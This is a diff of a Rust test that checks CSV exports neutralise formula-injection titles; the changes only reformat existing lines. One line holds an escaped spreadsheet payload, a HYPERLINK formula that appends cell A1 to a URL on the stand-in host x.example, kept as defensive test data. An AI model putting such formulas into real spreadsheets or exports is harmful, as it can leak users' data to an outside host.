@@ -702,21 +702,36 @@ fn csv_exports_neutralise_a_formula_title_in_the_cli_and_the_console() {
     ];
     let r = http(&host, "POST", "/login", &same, &format!("token={token}"));
     assert_eq!(r.status, 303, "{}", r.body);
-    let cookie = r.header("set-cookie").unwrap().split(';').next().unwrap().to_owned();
+    let cookie = r
+        .header("set-cookie")
+        .unwrap()
+        .split(';')
+        .next()
+        .unwrap()
+        .to_owned();
     let session = [("Cookie", cookie.as_str())];
     let r = http(&host, "GET", &format!("/item/{id}"), &session, "");
     assert_eq!(r.status, 200, "{}", r.body);
     let shown = "&quot;&#39;=HYPERLINK(&quot;&quot;http://x.example/?&quot;&quot;&amp;A1,&quot;&quot;click&quot;&quot;)&quot;";
     let copy = r.body.find("id=\"copy-csv\"").expect("a CSV copy");
     assert!(r.body[copy..].contains(shown), "{}", &r.body[copy..]);
-    let r = http(&host, "GET", &format!("/item/{id}/export/csv"), &session, "");
+    let r = http(
+        &host,
+        "GET",
+        &format!("/item/{id}/export/csv"),
+        &session,
+        "",
+    );
     assert_eq!(r.status, 200, "{}", r.body);
     assert!(r.body.contains(&format!(",{neutralised},")), "{}", r.body);
     drop(procs);
 
     // Our own export imports back to the same title.
     let (ok, out, err) = run(agent(&bob).args(["publish", "--csv", exported.to_str().unwrap()]));
-    assert!(ok && out.contains("1 rows; 1 published, 0 invalid"), "{out} {err}");
+    assert!(
+        ok && out.contains("1 rows; 1 published, 0 invalid"),
+        "{out} {err}"
+    );
     let (ok, _, err) = run(agent(&bob).args(["sync", "--jsonl", jsonl.to_str().unwrap()]));
     assert!(ok, "{err}");
     let (ok, out, err) = run(agent(&bob).args(["list", "--json"]));
